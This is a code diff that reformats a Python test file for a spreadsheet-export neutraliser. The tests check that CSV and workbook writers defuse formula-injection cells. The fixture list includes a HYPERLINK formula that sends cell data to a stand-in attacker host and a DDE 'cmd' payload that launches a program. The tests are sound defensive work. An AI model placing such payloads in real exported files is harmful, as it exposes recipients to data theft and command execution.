@@ -23,8 +23,10 @@ from highneeds import spreadsheets
 
 PACKAGE = Path(highneeds.__file__).parent
 # Ways of writing a spreadsheet that bypass the neutraliser.
-WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.write_csv\(|\.write_excel\(|\.to_csv\(|\bWorkbook\(|"
-                     r"xlsxwriter|\.save\(\s*(out|buffer|stream|io\.BytesIO)|text/csv|spreadsheetml")
+WRITERS = re.compile(
+    r"csv\.writer\(|csv\.DictWriter\(|\.write_csv\(|\.write_excel\(|\.to_csv\(|\bWorkbook\(|"
+    r"xlsxwriter|\.save\(\s*(out|buffer|stream|io\.BytesIO)|text/csv|spreadsheetml"
+)
 # A module that names a CSV or xlsx response must build its body through the one place.
 RESPONSE_TYPES = re.compile(r"text/csv|spreadsheetml")
 
@@ -44,7 +46,12 @@ def test_no_module_writes_a_spreadsheet_except_through_the_one_place():
 
 
 def test_the_scan_would_catch_a_bypass():
-    for line in ('w = csv.writer(out)', 'csv.DictWriter(out, fieldnames=f)', 'frame.write_csv(path)', 'wb = Workbook()'):
+    for line in (
+        "w = csv.writer(out)",
+        "csv.DictWriter(out, fieldnames=f)",
+        "frame.write_csv(path)",
+        "wb = Workbook()",
+    ):
         assert WRITERS.search(line), line
 
 
@@ -61,8 +68,14 @@ def test_numbers_stay_numbers(value):
     assert spreadsheets.neutralise(value) == value
 
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
-           "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_csv_and_workbook_writers_neutralise_every_hostile_cell(tmp_path):
